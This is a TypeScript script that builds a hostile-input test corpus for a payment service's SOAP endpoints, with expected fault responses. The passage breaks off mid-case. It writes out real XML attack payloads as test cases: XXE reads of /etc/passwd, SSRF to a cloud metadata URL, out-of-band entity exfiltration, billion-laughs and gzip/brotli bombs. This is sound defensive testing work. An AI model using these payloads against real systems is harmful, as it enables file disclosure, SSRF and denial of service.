// Writes the hostile-input corpus for the SOAP endpoints (issue 10 item 1): fixtures/hostile/soap/
// <category>/<case>/ with case.json (endpoint, headers, expected typed answer) and request.xml or
// request.bin, built by mutating the valid conformance requests of fixtures/soap. The corpus is
// committed; this script reproduces it byte for byte (`npx tsx scripts/hostile-soap.ts [outDir]`).
// Format: fixtures/hostile/README.md. Runner: test/conformance/hostileSoap.test.ts.

import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { PROJECT_ROOT } from '../src/xml/paths.ts';

/** Where the corpus is written: the committed folder, or the folder given as the first argument. */
const OUT = path.resolve(process.argv[2] ?? path.join(PROJECT_ROOT, 'fixtures/hostile/soap'));
const VALID = path.join(PROJECT_ROOT, 'fixtures/soap');
/** The test server's PPAY_MAX_BODY_BYTES (test/support/soapServer.ts TEST_MAX_BODY_BYTES). */
const MAX_BODY_BYTES = 5 * 1024 * 1024;

const PA = '/ws/pagopa/paForNode';
const PA_RT = '/ws/pagopa/PaPerNodo';
const PA_PSP = '/ws/pagopa/PaPerNodoPagamentoPsp';
const PA_AVVISI = '/ws/pagopa/PaPerNodoRichiestaAvvisi';
const GEST = '/ws/gestionale';
const NODO = '/emulator/ws/NodoPerPa';
const NODE_FOR_PA = '/emulator/ws/nodeForPa';

const SOAP11 = 'http://schemas.xmlsoap.org/soap/envelope/';
const SOAP12 = 'http://www.w3.org/2003/05/soap-envelope';
const WSSE = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd';
const PASSWORD_TEXT =
  'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordText';
const PASSWORD_DIGEST =
  'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordDigest';
const DEMO_USER = 'demo-gestionale';
const DEMO_PASSWORD = 'demo-gestionale-password';

interface Expect {
  httpStatus: number;
  soapFault?: 'Client' | 'Server';
  outcome?: 'OK' | 'KO';
  faultCode?: string;
}

/** A SOAP Fault soap:Client, HTTP 500 (SOAP 1.1 over HTTP): refused before any handler. */
const CLIENT: Expect = { httpStatus: 500, soapFault: 'Client' };
/** Refused while reading the body (bad or unsupported Content-Encoding): soap:Client, HTTP 400. */
const BAD_BODY: Expect = { httpStatus: 400, soapFault: 'Client' };
/** Over PPAY_MAX_BODY_BYTES (after inflation too): soap:Client, HTTP 413. */
const TOO_LARGE: Expect = { httpStatus: 413, soapFault: 'Client' };
const ko = (faultCode: string): Expect => ({ httpStatus: 200, outcome: 'KO', faultCode });
/** A node KO: the emulator's answers carry the faultBean, most of them without esito. */
const nodeKo = (faultCode: string): Expect => ({ httpStatus: 200, faultCode });
const OK: Expect = { httpStatus: 200, outcome: 'OK' };
/** OK for the message, KO for its items: the first item's faultCode is asserted. */
const okWithItemKo = (faultCode: string): Expect => ({ httpStatus: 200, outcome: 'OK', faultCode });

/** The schema rejection each interface answers with (HTTP 200, outcome KO). */
function xsdKo(endpoint: string): Expect {
  if (endpoint === GEST) return ko('PPAY_XSD_INVALID');
  if (endpoint.startsWith('/emulator/')) return nodeKo('PPT_SINTASSI_EXTRAXSD');
  return ko('PAA_SINTASSI_EXTRAXSD');
}

interface Base {
  op: string;
  endpoint: string;
  xml: string;
}

function readValid(op: string, name: string): string {
  const xml = fs.readFileSync(path.join(VALID, op, name, 'request.xml'), 'utf8');
  // Drop the fixture's explanatory comment: each hostile case says what it is in case.json.
  return xml.replace(/<!--[\s\S]*?-->\n?/g, '');
}

function withSecurity(
  xml: string,
  user = DEMO_USER,
  password = DEMO_PASSWORD,
  type = PASSWORD_TEXT,
  ns = WSSE,
): string {
  const security =
    `<wsse:Security xmlns:wsse="${ns}"><wsse:UsernameToken><wsse:Username>${user}</wsse:Username>` +
    `<wsse:Password Type="${type}">${password}</wsse:Password></wsse:UsernameToken></wsse:Security>`;
  return withHeader(xml, security);
}

/** Puts `content` in the envelope's Header (creating it before the Body when absent). */
function withHeader(xml: string, content: string): string {
  if (xml.includes('<soapenv:Header/>'))
    return xml.replace('<soapenv:Header/>', `<soapenv:Header>${content}</soapenv:Header>`);
  if (xml.includes('<soapenv:Header>')) return xml.replace('<soapenv:Header>', `<soapenv:Header>${content}`);
  return xml.replace('<soapenv:Body>', `<soapenv:Header>${content}</soapenv:Header>\n  <soapenv:Body>`);
}

const gest = (op: string, name: string): Base => ({
  op,
  endpoint: GEST,
  xml: withSecurity(readValid(op, name)),
});

/** The demo client allow-lists http://localhost: a return URL there gets past that check. */
function localReturn(base: Base): Base {
  return { ...base, xml: setText(base.xml, 'returnUrl', 'http://localhost/esito') };
}

const B = {
  verify: {
    op: 'paVerifyPaymentNotice',
    endpoint: PA,
    xml: readValid('paVerifyPaymentNotice', 'valid-demo-notice'),
  },
  getPayment: { op: 'paGetPayment', endpoint: PA, xml: readValid('paGetPayment', 'valid-demo-notice') },
  getPaymentV2: {
    op: 'paGetPaymentV2',
    endpoint: PA,
    xml: readValid('paGetPaymentV2', 'valid-installment-notice'),
  },
  sendRT: { op: 'paSendRT', endpoint: PA, xml: readValid('paSendRT', 'valid-full-receipt') },
  sendRTV2: { op: 'paSendRTV2', endpoint: PA, xml: readValid('paSendRTV2', 'valid-demo-receipt') },
  demand: {
    op: 'paDemandPaymentNotice',
    endpoint: PA,
    xml: readValid('paDemandPaymentNotice', 'valid-spontaneous-mensa'),
  },
  verificaRPT: {
    op: 'paaVerificaRPT',
    endpoint: PA_PSP,
    xml: readValid('paaVerificaRPT', 'valid-demo-notice'),
  },
  attivaRPT: { op: 'paaAttivaRPT', endpoint: PA_PSP, xml: readValid('paaAttivaRPT', 'valid-demo-notice') },
  inviaRT: { op: 'paaInviaRT', endpoint: PA_RT, xml: readValid('paaInviaRT', 'valid-paid-rt') },
  chiediNumero: {
    op: 'paaChiediNumeroAvviso',
    endpoint: PA_AVVISI,
    xml: readValid('paaChiediNumeroAvviso', 'valid-spontaneous-mensa'),
  },
  requestIUV: gest('requestIUV', 'valid-tari'),
  requestIUVBatch: gest('requestIUVBatch', 'valid-three'),
  upload: gest('uploadDebtPositions', 'valid-insert'),
  getUploadOutcome: gest('getUploadOutcome', 'valid-by-upload-id'),
  getDebtPosition: gest('getDebtPosition', 'valid-by-notice-number'),
  reserveNotices: gest('reserveNotices', 'valid-multe'),
  activateNotice: gest('activateNotice', 'valid-fine'),
  releaseNotices: gest('releaseNotices', 'valid-three'),
  createPaymentSession: localReturn(gest('createPaymentSession', 'valid-by-notice-number')),
  startPayment: localReturn(gest('startPayment', 'valid-new-position')),
  getPaymentStatus: gest('getPaymentStatus', 'valid-by-notice-number'),
  getReceipt: gest('getReceipt', 'valid-by-receipt-id'),
  getNoticeDocument: gest('getNoticeDocument', 'valid-notice-by-position-id'),
  listPayments: gest('listPayments', 'valid-tari-month'),
  listReconciliationFlows: gest('listReconciliationFlows', 'valid-anomalies'),
  getReconciliationFlow: gest('getReconciliationFlow', 'valid-minimal'),
  statoRPT: {
    op: 'nodoChiediStatoRPT',
    endpoint: NODO,
    xml: nodeRequest(
      'nodoChiediStatoRPT',
      '<identificativoDominio>01234567897</identificativoDominio>' +
        '<identificativoUnivocoVersamento>01000000000000144</identificativoUnivocoVersamento>' +
        '<codiceContestoPagamento>CCP-HOSTILE-0001</codiceContestoPagamento>',
    ),
  },
  elencoFlussi: {
    op: 'nodoChiediElencoFlussiRendicontazione',
    endpoint: NODO,
    xml: nodeRequest('nodoChiediElencoFlussiRendicontazione', ''),
  },
  elencoFlussiNew: {
    op: 'nodoChiediElencoFlussiRendicontazione',
    endpoint: NODE_FOR_PA,
    xml: nodeRequest('nodoChiediElencoFlussiRendicontazione', ''),
  },
} satisfies Record<string, Base>;

/** A node request from the demo station (NodoPerPa / nodeForPa share the namespace and the login fields). */
function nodeRequest(
  operation: string,
  rest: string,
  login = ['12345678903', '12345678903_01', 'DemoStation01'],
): string {
  const [broker, station, password] = login;
  return (
    `<?xml version="1.0" encoding="UTF-8"?>\n` +
    `<soapenv:Envelope xmlns:soapenv="${SOAP11}" xmlns:ppt="http://ws.pagamenti.telematici.gov/">\n` +
    `  <soapenv:Body>\n` +
    `    <ppt:${operation}>\n` +
    `      <identificativoIntermediarioPA>${broker}</identificativoIntermediarioPA>\n` +
    `      <identificativoStazioneIntermediarioPA>${station}</identificativoStazioneIntermediarioPA>\n` +
    `      <password>${password}</password>\n` +
    (rest ? `      ${rest}\n` : '') +
    `    </ppt:${operation}>\n` +
    `  </soapenv:Body>\n` +
    `</soapenv:Envelope>\n`
  );
}

// ---------------------------------------------------------------------------------------------
// Mutations

/** Replaces the text of the first <name>…</name> (any prefix). */
function setText(xml: string, name: string, value: string, occurrence = 0): string {
  const re = new RegExp(`(<(?:[\\w-]+:)?${name}>)([^<]*)(</(?:[\\w-]+:)?${name}>)`, 'g');
  let seen = -1;
  let done = false;
  const out = xml.replace(re, (all, open: string, _text: string, close: string) => {
    seen += 1;
    if (seen !== occurrence) return all;
    done = true;
    return `${open}${value}${close}`;
  });
  if (!done) throw new Error(`no <${name}> (occurrence ${occurrence}) to set`);
  return out;
}

/** The start tag of the body's payload element, e.g. `<pafn:paVerifyPaymentNoticeReq>`. */
function payloadTag(xml: string): string {
  const m = /<soapenv:Body>\s*(<[^>]+>)/.exec(xml);
  if (!m) throw new Error('no payload');
  return m[1] as string;
}

/** Inserts `content` right after the payload element's start tag. */
function intoPayload(xml: string, content: string): string {
  const tag = payloadTag(xml);
  return xml.replace(tag, `${tag}${content}`);
}

function bodyInner(xml: string): string {
  const m = /<soapenv:Body>([\s\S]*)<\/soapenv:Body>/.exec(xml);
  if (!m) throw new Error('no body');
  return m[1] as string;
}

function withDoctype(xml: string, doctype: string): string {
  const decl = /^<\?xml[^>]*\?>\n?/.exec(xml);
  const head = decl ? decl[0] : '';
  return `${head}${doctype}\n${xml.slice(head.length)}`;
}

/** An upload with its own messageId and positionId, so no case depends on another's outcome. */
function ownUpload(xml: string, key: string): string {
  return setText(setText(xml, 'messageId', `HOSTILE-${key}`), 'positionId', `HOSTILE-${key}`);
}
const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

// ---------------------------------------------------------------------------------------------
// The corpus

interface Case {
  category: string;
  name: string;
  description: string;
  endpoint: string;
  headers: Record<string, string>;
  body: string | Buffer;
  binary?: boolean;
  expand?: Array<{ marker: string; fill: string; times: number }>;
  expect: Expect;
  allowedChanges?: { tables: string[]; why: string };
}

const cases: Case[] = [];
let category = '';

function headersFor(base: { op: string }, extra: Record<string, string> = {}): Record<string, string> {
  return { 'Content-Type': 'text/xml; charset=utf-8', SOAPAction: `"${base.op}"`, ...extra };
}

interface AddOptions {
  headers?: Record<string, string>;
  binary?: boolean;
  expand?: Case['expand'];
  allowedChanges?: Case['allowedChanges'];
  endpoint?: string;
}

function add(
  name: string,
  base: Base,
  body: string | Buffer,
  expect: Expect,
  description: string,
  options: AddOptions = {},
): void {
  cases.push({
    category,
    name,
    description,
    endpoint: options.endpoint ?? base.endpoint,
    headers: options.headers ?? headersFor(base),
    body,
    binary: options.binary ?? Buffer.isBuffer(body),
    expand: options.expand,
    expect,
    allowedChanges: options.allowedChanges,
  });
}

const UPLOAD_TABLES = {
  tables: ['gestionale_requests', 'uploads', 'upload_items'],
  why: 'an upload whose items are refused one by one is still recorded with its per-item outcome, so a replay of the messageId answers the same',
};

// ---- malformed XML -----------------------------------------------------------------------------
category = 'malformed-xml';
{
  const v = B.verify.xml;
  const g = B.requestIUV.xml;
  add('empty-body-paForNode', B.verify, '', CLIENT, 'an empty body is a soap:Client Fault (HTTP 500)');
  add(
    'empty-body-gestionale',
    B.requestIUV,
    '',
    CLIENT,
    'an empty body to the gestionale API is a soap:Client Fault',
  );
  add(
    'empty-body-legacy',
    B.attivaRPT,
    '',
    CLIENT,
    'an empty body to PaPerNodoPagamentoPsp is a soap:Client Fault',
  );
  add(
    'empty-body-emulator',
    B.statoRPT,
    '',
    CLIENT,
    'an empty body to the emulator node is a soap:Client Fault',
  );
  add('whitespace-only', B.verify, '   \n\t  ', CLIENT, 'a body of whitespace only is a soap:Client Fault');
  add(
    'unclosed-payload',
    B.verify,
    v.replace('</pafn:paVerifyPaymentNoticeReq>', ''),
    CLIENT,
    'an unclosed payload element is a soap:Client Fault',
  );
  add(
    'unclosed-envelope',
    B.requestIUV,
    g.replace('</soapenv:Envelope>', ''),
    CLIENT,
    'an envelope never closed is a soap:Client Fault',
  );
  add(
    'truncated-receipt',
    B.sendRT,
    B.sendRT.xml.slice(0, Math.floor(B.sendRT.xml.length / 2)),
    CLIENT,
    'a receipt cut in half is a soap:Client Fault and stores nothing',
  );
  add(
    'truncated-upload',
    B.upload,
    B.upload.xml.slice(0, Math.floor(B.upload.xml.length * 0.7)),
    CLIENT,
    'an upload cut at 70% is a soap:Client Fault and stores nothing',
  );
  add(
    'truncated-inside-tag',
    B.inviaRT,
    B.inviaRT.xml.slice(0, B.inviaRT.xml.indexOf('<rt>') + 2),
    CLIENT,
    'a legacy RT cut inside a start tag is a soap:Client Fault',
  );
  add(
    'mismatched-end-tag',
    B.verify,
    v.replace('</idPA>', '</idBrokerPA>'),
    CLIENT,
    'an end tag naming another element is a soap:Client Fault',
  );
  add('plain-text', B.verify, 'hello, this is not XML', CLIENT, 'plain text is a soap:Client Fault');
  add(
    'json-body',
    B.requestIUV,
    JSON.stringify({ enteFiscalCode: '01234567897', serviceCode: 'TARI' }),
    CLIENT,
    'a JSON body (Content-Type application/json) is a soap:Client Fault',
    {
      headers: headersFor(B.requestIUV, { 'Content-Type': 'application/json' }),
    },
  );
  add(
    'random-bytes',
    B.verify,
    Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 197 + 13) % 256)),
    CLIENT,
    'random bytes are a soap:Client Fault',
  );
  add(
    'unknown-encoding-declaration',
    B.verify,
    v.replace('encoding="UTF-8"', 'encoding="X-NO-SUCH-ENCODING"'),
    CLIENT,
    'an XML declaration naming an unknown encoding is a soap:Client Fault',
  );
  add(
    'utf7-encoding-declaration',
    B.verify,
    v.replace('encoding="UTF-8"', 'encoding="UTF-7"'),
    CLIENT,
    'an XML declaration naming UTF-7 is a soap:Client Fault',
  );
  add(
    'declaration-not-first',
    B.verify,
    `\n  ${v}`,
    CLIENT,
    'an XML declaration after leading whitespace is a soap:Client Fault',
  );
  add(
    'xml-version-2',
    B.verify,
    v.replace('version="1.0"', 'version="2.0"'),
    CLIENT,
    'XML version 2.0 is a soap:Client Fault',
  );
  add(
    'utf16le-bom',
    B.verify,
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(v.replace('UTF-8', 'UTF-16'), 'utf16le')]),
    CLIENT,
    'a UTF-16LE document with BOM is a soap:Client Fault (the API speaks UTF-8 only)',
  );
  add(
    'utf16be-bom',
    B.requestIUV,
    Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(g.replace('UTF-8', 'UTF-16'), 'utf16le').swap16()]),
    CLIENT,
    'a UTF-16BE document with BOM is a soap:Client Fault',
  );
  add(
    'utf32-bom',
    B.verify,
    Buffer.concat([Buffer.from([0x00, 0x00, 0xfe, 0xff]), Buffer.from(v, 'utf8')]),
    CLIENT,
    'a UTF-32BE BOM before a UTF-8 document is a soap:Client Fault',
  );
  add(
    'utf8-bom-accepted',
    B.verify,
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(v, 'utf8')]),
    OK,
    'a UTF-8 BOM before the declaration is legal XML: the read-only verify answers OK',
  );
  add(
    'bom-after-declaration',
    B.verify,
    v.replace('?>\n', '?>\n\uFEFF'),
    CLIENT,
    'a BOM between the declaration and the root is a soap:Client Fault',
  );
  add(
    'two-root-elements',
    B.verify,
    `${v}\n${bodyInner(v)}`,
    CLIENT,
    'content after the root element is a soap:Client Fault',
  );
  add(
    'unescaped-ampersand',
    B.sendRT,
    setText(B.sendRT.xml, 'description', 'TARI & co'),
    CLIENT,
    'an unescaped & in a receipt is a soap:Client Fault and stores nothing',
  );
  add(
    'lt-in-attribute',
    B.verify,
    v.replace('<soapenv:Body>', '<soapenv:Body a="<b">'),
    CLIENT,
    'a < in an attribute value is a soap:Client Fault',
  );
  add(
    'undefined-entity',
    B.verify,
    setText(v, 'idPA', '&company;'),
    CLIENT,
    'a reference to an undeclared entity is a soap:Client Fault',
  );
  add(
    'nul-char-reference',
    B.verify,
    setText(v, 'idPA', '0123456789&#0;'),
    CLIENT,
    'the character reference &#0; is a soap:Client Fault',
  );
  add(
    'unterminated-cdata',
    B.requestIUV,
    setText(g, 'serviceCode', '<![CDATA[TARI'),
    CLIENT,
    'an unterminated CDATA section is a soap:Client Fault',
  );
  add(
    'double-hyphen-comment',
    B.verify,
    v.replace('<soapenv:Body>', '<soapenv:Body><!-- a -- b -->'),
    CLIENT,
    'a comment containing -- is a soap:Client Fault',
  );
  add(
    'duplicate-attribute',
    B.verify,
    v.replace('<soapenv:Body>', '<soapenv:Body a="1" a="2">'),
    CLIENT,
    'an attribute given twice is a soap:Client Fault',
  );
  add(
    'undeclared-prefix',
    B.verify,
    v.replace(' xmlns:pafn="http://pagopa-api.pagopa.gov.it/pa/paForNode.xsd"', ''),
    CLIENT,
    'an undeclared namespace prefix is a soap:Client Fault',
  );
  add(
    'nul-byte',
    B.requestIUV,
    Buffer.from(g.replace('TARI', 'TA\u0000RI'), 'utf8'),
    CLIENT,
    'a NUL byte inside element text is a soap:Client Fault',
  );
}

// ---- DOCTYPE, entities ----------------------------------------------------------------------------
category = 'doctype-entities';
{
  const v = B.verify.xml;
  const xxe = (base: Base, field: string, target: string) =>
    withDoctype(
      setText(base.xml, field, '&xxe;'),
      `<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "${target}">]>`,
    );
  add(
    'xxe-file-paForNode',
    B.verify,
    xxe(B.verify, 'idPA', 'file:///etc/passwd'),
    CLIENT,
    'an external entity reading file:///etc/passwd is refused with a soap:Client Fault (DOCTYPE is not allowed)',
  );
  add(
    'xxe-file-gestionale',
    B.requestIUV,
    xxe(B.requestIUV, 'serviceCode', 'file:///etc/passwd'),
    CLIENT,
    'an external entity in a gestionale request is a soap:Client Fault',
  );
  add(
    'xxe-file-legacy',
    B.verificaRPT,
    xxe(B.verificaRPT, 'identificativoPSP', 'file:///etc/hostname'),
    CLIENT,
    'an external entity in a legacy request is a soap:Client Fault',
  );
  add(
    'xxe-file-receipt',
    B.sendRT,
    xxe(B.sendRT, 'description', 'file:///proc/self/environ'),
    CLIENT,
    'an external entity in a receipt is a soap:Client Fault and stores nothing',
  );
  add(
    'xxe-file-emulator',
    B.statoRPT,
    xxe(B.statoRPT, 'password', 'file:///etc/passwd'),
    CLIENT,
    'an external entity to the emulator node is a soap:Client Fault',
  );
  add(
    'xxe-http-paForNode',
    B.verify,
    xxe(B.verify, 'idPA', 'http://127.0.0.1:9/ssrf'),
    CLIENT,
    'an external entity fetching http:// (SSRF) is a soap:Client Fault',
  );
  add(
    'xxe-http-gestionale',
    B.upload,
    xxe(B.upload, 'description', 'http://169.254.169.254/latest/meta-data/'),
    CLIENT,
    'an external entity aimed at a cloud metadata URL is a soap:Client Fault',
  );
  add(
    'external-dtd',
    B.verify,
    withDoctype(v, '<!DOCTYPE soapenv:Envelope SYSTEM "http://127.0.0.1:9/evil.dtd">'),
    CLIENT,
    'an external DTD is a soap:Client Fault',
  );
  add(
    'parameter-entity',
    B.verify,
    withDoctype(
      v,
      '<!DOCTYPE soapenv:Envelope [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/p.dtd"> %remote;]>',
    ),
    CLIENT,
    'a parameter entity loading a remote DTD is a soap:Client Fault',
  );
  add(
    'parameter-entity-oob',
    B.requestIUV,
    withDoctype(
      B.requestIUV.xml,
      '<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://127.0.0.1:9/?x=%file;\'>">%eval;%exfil;]>',
    ),
    CLIENT,
    'an out-of-band exfiltration through parameter entities is a soap:Client Fault',
  );
  const lol =
    '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
    Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
    ).join('') +
    ']>';
  add(
    'billion-laughs-paForNode',
    B.verify,
    withDoctype(setText(v, 'idPA', '&lol9;'), lol),
    CLIENT,
    'billion laughs (10^9 expansions) is a soap:Client Fault, answered at once',
  );
  add(
    'billion-laughs-gestionale',
    B.requestIUV,
    withDoctype(setText(B.requestIUV.xml, 'serviceCode', '&lol9;'), lol),
    CLIENT,
    'billion laughs to the gestionale API is a soap:Client Fault',
  );
  add(
    'billion-laughs-emulator',
    B.elencoFlussiNew,
    withDoctype(setText(B.elencoFlussiNew.xml, 'password', '&lol9;'), lol),
    CLIENT,
    'billion laughs to the emulator node is a soap:Client Fault',
  );
  const big = 'A'.repeat(20000);
  add(
    'quadratic-blowup',
    B.sendRT,
    withDoctype(
      setText(B.sendRT.xml, 'description', '&a;'.repeat(2000)),
      `<!DOCTYPE r [<!ENTITY a "${big}">]>`,
    ),
    CLIENT,
    'quadratic blowup (a 20 kB entity used 2000 times) is a soap:Client Fault',
  );
  add(
    'internal-subset-harmless',
    B.verify,
    withDoctype(v, '<!DOCTYPE soapenv:Envelope>'),
    CLIENT,
    'even a harmless DOCTYPE is refused with a soap:Client Fault',
  );
  add(
    'lowercase-doctype',
    B.verify,
    withDoctype(
      setText(v, 'idPA', '&xxe;'),
      '<!doctype soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ),
    CLIENT,
    'a lower-case <!doctype is refused too',
  );
  add(
    'doctype-after-comment',
    B.verify,
    v.replace(
      '<soapenv:Envelope',
      '<!-- x --><!DOCTYPE soapenv:Envelope [<!ENTITY a "b">]><soapenv:Envelope',
    ),
    CLIENT,
    'a DOCTYPE after a comment is refused',
  );
  add(
    'doctype-in-gzip',
    B.verify,
    zlib.gzipSync(Buffer.from(xxe(B.verify, 'idPA', 'file:///etc/passwd'))),
    CLIENT,
    'a DOCTYPE inside a gzip-compressed body is found after inflation and refused',
    {
      headers: headersFor(B.verify, { 'Content-Encoding': 'gzip' }),
    },
  );
  add(
    'doctype-in-utf16',
    B.verify,
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(xxe(B.verify, 'idPA', 'file:///etc/passwd').replace('UTF-8', 'UTF-16'), 'utf16le'),
    ]),
    CLIENT,
    'a DOCTYPE hidden by UTF-16 encoding is not parsed: soap:Client Fault',
  );
  add(
    'xinclude-in-payload',
    B.verify,
    setText(
      v,
      'idPA',
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    ),
    xsdKo(PA),
    'an XInclude element is not processed: the idPA holds an element, KO PAA_SINTASSI_EXTRAXSD',
  );
  add(
    'xinclude-in-gestionale',
    B.getDebtPosition,
    setText(
      B.getDebtPosition.xml,
      'enteFiscalCode',
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    ),
    xsdKo(GEST),
    'an XInclude in a gestionale request is not processed: KO PPAY_XSD_INVALID',
  );
  add(
    'schema-location-hint',
    B.verify,
    v.replace(
      '<pafn:paVerifyPaymentNoticeReq>',
      '<pafn:paVerifyPaymentNoticeReq xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://pagopa-api.pagopa.gov.it/pa/paForNode.xsd http://127.0.0.1:9/evil.xsd">',
    ),
    OK,
    'an xsi:schemaLocation hint is ignored (our schemas only): the read-only verify answers OK',
  );
  add(
    'xml-stylesheet-pi',
    B.verify,
    v.replace(
      '<soapenv:Envelope',
      '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/evil.xsl"?><soapenv:Envelope',
    ),
    OK,
    'an xml-stylesheet processing instruction is ignored: the read-only verify answers OK',
  );
  add(
    'doctype-text-in-cdata',
    B.getDebtPosition,
    intoPayload(B.getDebtPosition.xml, '<![CDATA[<!DOCTYPE x>]]>'),
    CLIENT,
    'the text <!DOCTYPE even inside CDATA is refused before parsing (soap:Client Fault)',
  );
  const rtWithXxe = Buffer.from(
    Buffer.from(B.inviaRT.xml.match(/<rt>([^<]+)<\/rt>/)![1]!, 'base64')
      .toString('utf8')
      .replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      ),
    'utf8',
  ).toString('base64');
  add(
    'xxe-inside-base64-rt',
    B.inviaRT,
    setText(B.inviaRT.xml, 'rt', rtWithXxe),
    ko('PAA_SINTASSI_XSD'),
    'a legacy RT whose base64 document carries an external entity is refused KO PAA_SINTASSI_XSD and stores nothing',
  );
  add(
    'billion-laughs-in-service-data',
    B.demand,
    setText(
      B.demand.xml,
      'datiSpecificiServizioRequest',
      b64(
        `<?xml version="1.0"?>${lol}<service xmlns="http://PuntoAccessoPSP.spcoop.gov.it/Servizio_generico"><codiceServizio>&lol9;</codiceServizio></service>`,
      ),
    ),
    ko('PAA_SEMANTICA'),
    'service data (base64) carrying billion laughs is refused KO PAA_SEMANTICA, creating no notice',
  );
  add(
    'xxe-in-avviso-service-data',
    B.chiediNumero,
    setText(
      B.chiediNumero.xml,
      'datiSpecificiServizio',
      b64(
        `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><service xmlns="http://PuntoAccessoPSP.spcoop.gov.it/Servizio_generico"><codiceServizio>&x;</codiceServizio></service>`,
      ),
    ),
    ko('PAA_SEMANTICA'),
    'legacy service data carrying an external entity is refused KO PAA_SEMANTICA, creating no notice',
  );
}

// ---- size, compression ---------------------------------------------------------------------------
category = 'size-compression';
{
  const PAD = '<!--PAD-->';
  const padded = (base: Base) => base.xml.replace('<soapenv:Body>', `<soapenv:Body>${PAD}`);
  const over = (base: Base, fill: string) => [
    { marker: PAD, fill: `<!--${fill}-->`, times: Math.ceil((MAX_BODY_BYTES + 1024) / (fill.length + 7)) },
  ];
  add(
    'six-mb-comment-paForNode',
    B.verify,
    padded(B.verify),
    TOO_LARGE,
    'a body over PPAY_MAX_BODY_BYTES (5 MiB) is refused HTTP 413 with a soap:Client Fault',
    {
      expand: over(B.verify, 'x'.repeat(1017)),
    },
  );
  add(
    'six-mb-comment-gestionale',
    B.upload,
    padded(B.upload),
    TOO_LARGE,
    'an oversized upload is refused HTTP 413 before any item is read',
    { expand: over(B.upload, 'y'.repeat(1017)) },
  );
  add(
    'six-mb-whitespace-emulator',
    B.statoRPT,
    padded(B.statoRPT),
    TOO_LARGE,
    'an oversized body to the emulator node is refused HTTP 413',
    {
      expand: [{ marker: PAD, fill: ' ', times: MAX_BODY_BYTES + 1 }],
    },
  );
  const justOver = MAX_BODY_BYTES + 1 - Buffer.byteLength(padded(B.verify)) + PAD.length;
  add(
    'one-byte-over-limit',
    B.verify,
    padded(B.verify),
    TOO_LARGE,
    'a body one byte over the limit is refused HTTP 413',
    {
      expand: [{ marker: PAD, fill: ' ', times: justOver }],
    },
  );
  const bomb = (base: Base, bytes: number) => {
    const xml = padded(base);
    const [head, tail] = xml.split(PAD) as [string, string];
    return Buffer.concat([
      Buffer.from(head),
      Buffer.from('<!--'),
      Buffer.alloc(bytes, 0x20),
      Buffer.from('-->'),
      Buffer.from(tail),
    ]);
  };
  add(
    'gzip-bomb-paForNode',
    B.sendRT,
    zlib.gzipSync(bomb(B.sendRT, 64 * 1024 * 1024), { level: 9 }),
    TOO_LARGE,
    'a gzip bomb (64 KiB inflating to 64 MiB) is refused HTTP 413 once the inflated size passes the limit',
    {
      headers: headersFor(B.sendRT, { 'Content-Encoding': 'gzip' }),
    },
  );
  add(
    'gzip-bomb-gestionale',
    B.upload,
    zlib.gzipSync(bomb(B.upload, 32 * 1024 * 1024), { level: 9 }),
    TOO_LARGE,
    'a gzip bomb to the gestionale API is refused HTTP 413',
    {
      headers: headersFor(B.upload, { 'Content-Encoding': 'gzip' }),
    },
  );
  add(
    'deflate-bomb',
    B.attivaRPT,
    zlib.deflateSync(bomb(B.attivaRPT, 32 * 1024 * 1024), { level: 9 }),
    TOO_LARGE,
    'a deflate bomb is refused HTTP 413',
    {
      headers: headersFor(B.attivaRPT, { 'Content-Encoding': 'deflate' }),
    },
  );
  add(
    'brotli-bomb',
    B.verify,
    zlib.brotliCompressSync(bomb(B.verify, 32 * 1024 * 1024)),
    TOO_LARGE,
    'a brotli bomb is refused HTTP 413',
    {
      headers: headersFor(B.verify, { 'Content-Encoding': 'br' }),
    },
  );
  add(
    'invalid-gzip',
    B.verify,
    Buffer.from('this is not gzip data at all, only text'),
    BAD_BODY,
    'a body declared gzip that is not gzip is refused HTTP 400 with a soap:Client Fault',
    {
      headers: headersFor(B.verify, { 'Content-Encoding': 'gzip' }),
    },
  );
  const gz = zlib.gzipSync(Buffer.from(B.requestIUV.xml));
  add(
    'truncated-gzip',
    B.requestIUV,
    gz.subarray(0, Math.floor(gz.length / 2)),
    BAD_BODY,
    'a gzip stream cut in half is refused HTTP 400',
    {
      headers: headersFor(B.requestIUV, { 'Content-Encoding': 'gzip' }),
    },
  );
  add(
    'unsupported-encoding',
    B.verify,
    Buffer.from(B.verify.xml),
    BAD_BODY,
    'Content-Encoding: compress (unsupported) is refused HTTP 400',
    {
      headers: headersFor(B.verify, { 'Content-Encoding': 'compress' }),
    },
  );
  add(
    'one-mb-string',
    B.sendRT,
    setText(B.sendRT.xml, 'description', '@@LONG@@'),
    xsdKo(PA),
